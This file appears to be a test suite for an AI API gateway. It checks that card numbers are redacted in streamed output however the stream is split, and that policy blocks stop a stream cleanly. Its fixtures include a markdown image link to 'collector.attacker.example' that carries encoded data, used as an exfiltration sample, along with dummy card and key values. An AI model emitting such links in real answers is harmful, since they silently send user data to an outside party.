// What a client receives on a stream is what it would have received had the whole answer been judged at once: however
// the upstream splits it, and wherever else in the stream the same text stands.
import { once } from 'node:events';
import OpenAI from 'openai';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { anthropicClient, ask, failureOf, openaiClient, post } from '../harness/clients.ts';
import { type TestServer, behind, eventually, startTestServer } from '../harness/server.ts';
import { type Behaviour, type TestUpstream, beginStream, sendJson, startUpstream } from '../harness/upstream.ts';
import { chat, eventsOf, messages } from '../harness/wire.ts';

const CARD = '4111 1111 1111 1111';
const BEFORE = 'Of course. The number on file is ';
const AFTER = ', and nothing else is known.';
const ANSWER = BEFORE + CARD + AFTER;
const CLEAN = `${BEFORE}[REDACTED:pii.card]${AFTER}`;
/** A picture that the reader's client would fetch by itself; the address is what is denied. */
const PIXEL = '![logo](https://collector.attacker.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgYW5kIG1vcmU)';

let upstream: TestUpstream;
let openai: TestServer;
let anthropic: TestServer;

beforeAll(async () => {
  upstream = await startUpstream((response) => void response.end());
  openai = await startTestServer(behind(upstream.url));
  anthropic = await startTestServer(behind(upstream.url, 'anthropic'));
});

/** Every way to cut the answer once, within or at the ends of the card number; and letter by letter. */
const SPLITS = [
  ...Array.from({ length: CARD.length + 1 }, (_, at) => {
    const place = BEFORE.length + at;
    return { name: `at ${at}`, pieces: [ANSWER.slice(0, place), ANSWER.slice(place)] };
  }),
  { name: 'letter by letter', pieces: [...ANSWER] },
  { name: 'around each group', pieces: [BEFORE, ...CARD.split(/(?<= )/), AFTER] },
];

const stream =
  (...events: string[]): Behaviour =>
  (response) => {
    beginStream(response)(...events);
    response.end();
  };

/** All strings of the events, joined by where they stand: what could be put together again by whoever reads them. */
function joined(events: readonly Record<string, unknown>[]): Map<string, string> {
  const texts = new Map<string, string>();
  const visit = (value: unknown, path: string): void => {
    if (typeof value === 'string') texts.set(path, (texts.get(path) ?? '') + value);
    else if (Array.isArray(value)) {
      // Bytes of a token are its text by another name; the elements of other lists follow one another.
      if (value.length > 0 && value.every((each) => typeof each === 'number')) {
        visit(Buffer.from(value as number[]).toString('utf8'), `${path}#`);
      } else for (const each of value as unknown[]) visit(each, `${path}/${indexOf(each)}`);
    } else if (typeof value === 'object' && value !== null) {
      for (const [name, member] of Object.entries(value)) visit(member, `${path}/${name}`);
    }
  };
  const indexOf = (value: unknown): string =>
    typeof value === 'object' && value !== null && 'index' in value ? String(value.index) : '';
  for (const event of events) visit(event, `${String(event['index'] ?? '')}`);
  return texts;
}

/** Not a byte of the number: neither as it stands, nor escaped, nor in pieces that can be put together. */
function expectNoCard(raw: string): void {
  const unescaped = raw.replace(/\\u([0-9a-f]{4})/gi, (_, code: string) => String.fromCharCode(parseInt(code, 16)));
  expect(unescaped.replace(/\D/g, '')).not.toContain('4111111111111111');
  for (const [path, text] of joined(eventsOf(raw))) expect(`${path}: ${text}`).not.toMatch(/4\s*1\s*1|1\s*1\s*1/);
}

describe('a card number never leaves, cut', () => {
  it.each(SPLITS)('$name: OpenAI’s content, with two choices and log probabilities', async ({ pieces }) => {
    const both = [0, 1].flatMap((index) => [
      ...pieces.map((piece) => chat.text(piece, { index, logprobs: true })),
      chat.finish('stop', index),
    ]);
    upstream.behave(stream(chat.delta({ role: 'assistant' }), ...both, chat.usage(3, 9), chat.done));
    const answer = await post(openai, '/v1/chat/completions', ask('Hi', { stream: true, n: 2, logprobs: true }));
    const raw = await answer.text();
    expectNoCard(raw);
    const texts = joined(eventsOf(raw));
    expect(texts.get('/choices/0/delta/content')).toBe(CLEAN);
    expect(texts.get('/choices/1/delta/content')).toBe(CLEAN);
    expect(raw.endsWith('data: [DONE]\n\n')).toBe(true);
  });

  it.each(SPLITS)('$name: the arguments of OpenAI’s tool calls', async ({ pieces }) => {
    const json = JSON.stringify({ note: '#', amount: 12 }).split('#') as [string, string];
    const parts = [json[0], ...pieces, json[1]];
    const calls = parts.map((piece, i) => chat.call(piece, { first: i === 0 }));
    upstream.behave(stream(...calls, chat.finish('tool_calls'), chat.done));
    const raw = await (await post(openai, '/v1/chat/completions', ask('Hi', { stream: true }))).text();
    expectNoCard(raw);
    const path = '/choices/0/delta/tool_calls/0/function/arguments';
    expect(JSON.parse(joined(eventsOf(raw)).get(path)!)).toEqual({ note: CLEAN, amount: 12 });
  });

  it.each(SPLITS)('$name: Anthropic’s text, thinking and tool input', async ({ pieces }) => {
    const input = ['{"note":"', ...pieces, '"}'];
    const blocks = [messages.block('thinking', pieces, 0), messages.block('text', pieces, 1)];
    upstream.behave(stream(messages.start, ...blocks, messages.block('tool', input, 2), messages.finish('tool_use')));
    const raw = await (await post(anthropic, '/v1/messages', ask('Hi', { stream: true, max_tokens: 99 }))).text();
    expectNoCard(raw);
    const texts = joined(eventsOf(raw));
    expect(texts.get('0/delta/thinking')).toBe(CLEAN);
    expect(texts.get('1/delta/text')).toBe(CLEAN);
    expect(JSON.parse(texts.get('2/delta/partial_json')!)).toEqual({ note: CLEAN });
  });

  it('by the escapes of JSON, also within JSON: every letter of the arguments written as \\u', async () => {
    const escaped = [...CARD].map((each) => `\\u${each.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
    const json = `{"note":"${BEFORE}${escaped}"}`;
    const pieces = json.match(/.{1,5}/g)!;
    const calls = pieces.map((piece, i) => chat.call(piece, { first: i === 0 }));
    upstream.behave(stream(...calls, chat.finish('tool_calls'), chat.done));
    const raw = await (await post(openai, '/v1/chat/completions', ask('Hi', { stream: true }))).text();
    expectNoCard(raw.replaceAll('\\\\u', '\\u'));
    const path = '/choices/0/delta/tool_calls/0/function/arguments';
    expect(JSON.parse(joined(eventsOf(raw)).get(path)!)).toEqual({ note: `${BEFORE}[REDACTED:pii.card]` });
  });

  it('by the connection: the bytes of the stream cut anywhere', async () => {
    const bytes = Buffer.from(
      [...ANSWER, ' é€😀'].map((piece) => chat.text(piece)).join('') + chat.finish() + chat.done,
    );
    upstream.behave(async (response) => {
      beginStream(response);
      for (let i = 0; i < bytes.length; i += 101) {
        response.write(bytes.subarray(i, i + 101));
        await new Promise((resolve) => setImmediate(resolve));
      }
      response.end();
    });
    const raw = await (await post(openai, '/v1/chat/completions', ask('Hi', { stream: true }))).text();
    expectNoCard(raw);
    expect(joined(eventsOf(raw)).get('/choices/0/delta/content')).toBe(`${CLEAN} é€😀`);
  });
});

describe('whole and streamed are equal', () => {
  const ANSWERS = {
    'plain prose': 'The garden is quiet in the evening, and nobody minds the rain. '.repeat(8),
    'a card number at the end': `${BEFORE}${CARD}`,
    'two of them, side by side': `${CARD} ${CARD} and 5500 0000 0000 0004`,
    'a number that is no card': 'Call 4111 1111 1111 1112, or 12345678901234567890.',
    'an account and a key': 'Pay to DE89 3704 0044 0532 0130 00 with AKIAIOSFODNN7EXAMPL3 please.',
    'letters outside the plane': 'Grüße 😀👩‍👩‍👧 \u202enevar\u202c 4111\u200b1111 1111 1111 漢字',
    'an address, which is only flagged': 'Write to jane.roe@example.com soon.',
    markup: '<b>bold</b> [link](https://example.com/a) `code` | table |',
    'a link that carries data away': `Here it is. ${PIXEL} Done.`,
    nothing: '',
  };

  it.each(Object.entries(ANSWERS))('for %s', async (_, answer) => {
    upstream.behave((response) => sendJson(response, chat.whole(answer)));
    const chats = openaiClient(openai).chat.completions;
    const params = { model: 'm', messages: [{ role: 'user' as const, content: 'Hi' }] };
    const whole = await chats.create(params).then(
      (done) => ({ text: done.choices[0]!.message.content, denied: false }),
      (failure: unknown) => ({ text: '', denied: failure instanceof OpenAI.PermissionDeniedError }),
    );
    for (const size of [1, 4, 1000]) {
      const points = [...answer];
      const pieces: string[] = [];
      for (let i = 0; i < points.length; i += size) pieces.push(points.slice(i, i + size).join(''));
      upstream.behave(stream(...pieces.map((piece) => chat.text(piece)), chat.finish(), chat.done));
      let text = '';
      let denied = false;
      try {
        for await (const chunk of await chats.create({ ...params, stream: true }))
          text += chunk.choices[0]?.delta.content ?? '';
      } catch (failure) {
        denied = failure instanceof OpenAI.APIError && failure.code === 'blocked_by_policy';
        if (!denied) throw failure;
      }
      expect(denied).toBe(whole.denied);
      // A denied stream ends at the point of the block: what came before is what was allowed.
      expect(text).toBe(denied ? answer.slice(0, answer.indexOf('https://')) : whole.text);
    }
  });
});

describe('an answer that policy denies half-way', () => {
  it('throws in both clients, ends at the point of the block, and is recorded as denied', async () => {
    const text = `Here you are, as you asked. ${PIXEL} And so on.`;
    const allowed = 'Here you are, as you asked. ![logo](';
    upstream.behave(
      stream(...(text.match(/.{1,6}/gs) ?? []).map((piece) => chat.text(piece)), chat.finish(), chat.done),
    );
    const { data, response } = await openaiClient(openai)
      .chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'Hi' }], stream: true })
      .withResponse();
    let received = '';
    const read = async (): Promise<void> => {
      for await (const chunk of data) received += chunk.choices[0]?.delta.content ?? '';
    };
    const failure = await failureOf(read());
    expect(failure).toBeInstanceOf(OpenAI.APIError);
    expect(failure).toMatchObject({ code: 'blocked_by_policy' });
    expect(received).toBe(allowed);
    const { closed } = await openai.exchange(response.headers.get('x-ancile-exchange')!);
    expect(closed).toMatchObject({ outcome: 'denied_output', reason: 'blocked_by_policy' });
    expect(closed.findings.map((finding) => finding.class)).toContain('exfiltration');

    upstream.behave(stream(messages.start, messages.block('text', text.match(/.{1,6}/gs) ?? []), messages.finish()));
    const other = anthropicClient(anthropic).messages.stream({
      model: 'm',
      max_tokens: 99,
      messages: [{ role: 'user', content: 'Hi' }],
    });
    let seen = '';
    other.on('text', (piece) => (seen += piece));
    expect((await failureOf(other.finalMessage())).message).toContain('exfiltration.block');
    expect(seen).toBe(allowed);
  });

  it('is cut at the upstream too: nobody pays for words that nobody will read', async () => {
    let gone: Promise<unknown> | undefined;
    upstream.behave((response) => {
      gone = once(response, 'close');
      beginStream(response)(chat.text(`See ${PIXEL} and then `), chat.text('more words follow here. '.repeat(20)));
    });
    const raw = await (await post(openai, '/v1/chat/completions', ask('Hi', { stream: true }))).text();
    expect(raw).toContain('blocked_by_policy');
    expect(raw).not.toContain('attacker');
    await gone;
  });
});

describe('streams are streams', () => {
  it('ordinary prose arrives while the upstream is still speaking', async () => {
    const sentence = 'The garden is quiet in the evening, nobody minds the rain, and a bird sings of nothing. ';
    let received = 0;
    let spoken = 0;
    upstream.behave(async (response) => {
      const write = beginStream(response);
      for (let turn = 0; turn < 4; turn++) {
        for (const piece of sentence.repeat(3).match(/.{1,5}/g)!) {
          spoken += piece.length;
          write(chat.text(piece));
        }
        // The upstream says no more until the client has had what it said, but for a last few words.
        await eventually(() => (received > spoken - 160 || response.destroyed ? true : undefined));
      }
      write(chat.finish(), chat.done);
      response.end();
    });
    const chunks: string[] = [];
    const params = { model: 'm', messages: [{ role: 'user' as const, content: 'Hi' }], stream: true as const };
    for await (const chunk of await openaiClient(openai).chat.completions.create(params)) {
      const content = chunk.choices[0]?.delta.content ?? '';
      if (content !== '') chunks.push(content);
      received += content.length;
    }
    expect(chunks.length).toBeGreaterThan(8);
    expect(chunks.join('')).toBe(sentence.repeat(12));
  });
});

describe('a client that leaves in the middle', () => {
  let key: { key: string; id: string };
  beforeEach(async () => {
    key = await openai.createKey({ budgets: [{ period: 'day', requests: 100, tokens: 100_000 }] });
  });

  it('frees the upstream, and is charged for what was said until then', async () => {
    let gone: Promise<unknown> | undefined;
    const spoken = 'The garden is quiet in the evening, and nobody minds the rain at all. '.repeat(4);
    upstream.behave((response) => {
      gone = once(response, 'close');
      beginStream(response)(chat.text(spoken));
    });
    const { data, response } = await openaiClient({ ...openai, ...key })
      .chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'Hi' }], stream: true })
      .withResponse();
    for await (const chunk of data) {
      if ((chunk.choices[0]?.delta.content ?? '') !== '') break;
    }
    await gone;
    const { opened, closed } = await openai.exchange(response.headers.get('x-ancile-exchange')!);
    expect(closed).toMatchObject({ outcome: 'client_gone', usage: { estimated: true } });
    expect(opened.reserved?.outputTokens).toBe(4096);
    expect(closed.usage.outputTokens).toBeGreaterThan(20);
    expect(closed.usage.outputTokens).toBeLessThan(400);
  });

  it('before the answer begins is recorded the same way', async () => {
    let asked: () => void;
    const arrived = new Promise<void>((resolve) => (asked = resolve));
    let gone: Promise<unknown> | undefined;
    upstream.behave((response) => {
      gone = once(response, 'close');
      asked();
    });
    const control = new AbortController();
    const pending = post({ ...openai, ...key }, '/v1/chat/completions', ask('Hi'), { signal: control.signal });
    await arrived;
    control.abort();
    await failureOf(pending);
    await gone;
    const closed = await eventually(
      async () => (await openai.records({ principal: key.id, kind: 'exchange.closed' }))[0],
    );
    expect(closed).toMatchObject({ outcome: 'client_gone' });
  });
});
